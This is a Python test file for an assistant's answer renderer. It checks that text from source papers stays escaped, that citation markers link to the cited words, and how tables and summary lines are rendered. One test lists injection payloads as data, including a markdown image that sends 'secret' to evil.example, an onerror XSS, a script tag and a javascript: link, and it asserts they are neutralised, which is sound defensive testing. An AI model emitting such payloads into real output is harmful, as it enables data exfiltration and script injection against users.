"""What comes from papers stays text; markers become links to the words they stand for."""

import re

import pytest

from assistant.models import Answer, Citation, Searched, Status
from assistant.ui.parts import one_line
from assistant.ui.render import announcement, prose, restated, searched_line, source_url

CITED = Citation(marker=1, document="a.pdf", passage_id="0123-00004", page=7, quote="the fee is £12", locator='Panel, item 3 "Fees"')
TEXTS = {"0123-00004": "From April\nthe fee is\n£12 a year."}


@pytest.mark.parametrize(
    "poison",
    [
        "![x](https://evil.example/?q=secret)",
        "[click](https://evil.example)",
        "<img src=x onerror=alert(1)>",
        "<https://evil.example>",
        "<script>alert(1)</script>",
        "[a]: https://evil.example\n\n[a]",
        "`<b>`",
        "    <b>indented</b>",
        "```\n<b>\n```",
        "[x](javascript:alert(1))",
        "&lt;img src=x&gt;",
    ],
)
def test_a_poisoned_paper_stays_text(poison: str) -> None:
    shown = prose(f"{poison} [1]\n\n- {poison}\n\n|{poison}|\n|--|\n|x|", [CITED], TEXTS).replace('<a class="cite"', "")
    assert "<img" not in shown
    assert "<script" not in shown
    assert "<b>" not in shown
    assert "<a " not in shown
    assert "src=" not in shown.replace("src=x", "")


def test_a_marker_links_to_its_words() -> None:
    shown = prose("The fee is £12. [1] Others [2].", [CITED], TEXTS)
    assert 'href="/source/0123-00004?page=7&amp;start=11&amp;end=25#cited"' in shown
    assert 'title="Panel, item 3 &#34;Fees&#34;"' in shown
    assert "[2]" in shown


def test_a_source_whose_words_are_not_in_the_list_marks_the_whole_passage() -> None:
    assert source_url(CITED, {}) == "/source/0123-00004?page=7#cited"


def test_lists_tables_and_emphasis_are_set() -> None:
    shown = prose("- **one**\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<li><strong>one</strong></li>" in shown
    assert '<td role="cell" data-label="b">2</td>' in shown


def test_a_table_says_its_headings_with_each_cell_and_no_empty_one() -> None:
    shown = prose("| | **The** papers say | Source |\n|---|---|---|\n| 2024 | £12 | [1] |", [CITED], TEXTS)
    assert 'tabindex="0"><table role="table">' in shown
    assert shown.count('role="columnheader"') == 2
    assert 'data-label="The papers say">£12</td>' in shown
    assert re.search(r'data-label="Source"> <a class="cite"', shown)


def test_what_was_searched_is_said_in_words() -> None:
    searched = Searched.model_validate({"documents": 5, "meetings": ["a", "b"], "from": "2012-07-12", "to": "2020-03-12"})
    assert searched_line(searched) == "5 papers, 2 meetings, 12 July 2012 to 12 March 2020"
    assert searched_line(Searched()) == "no papers"


def test_the_restated_question_is_shown_only_where_it_differs() -> None:
    answer = Answer(question="What cost?", standalone_question="what cost", answer="", abstained=True, status=Status.NOT_IN_PAPERS)
    assert restated(answer) is None
    assert restated(answer.model_copy(update={"standalone_question": "What did mowing cost?"})) == "What did mowing cost?"
    assert announcement(answer) == "The papers do not answer this."


def test_html_for_the_markdown_component_is_one_block_of_one_line() -> None:
    shown = one_line('<p\n  class="a">**one**\n\n# two</p>\n<blockquote>a\r\nb</blockquote>')
    assert shown == '<div><p class="a">**one**&#10;&#10;# two</p>&#10;<blockquote>a&#10;b</blockquote></div>'
    assert one_line(" \n") == ""
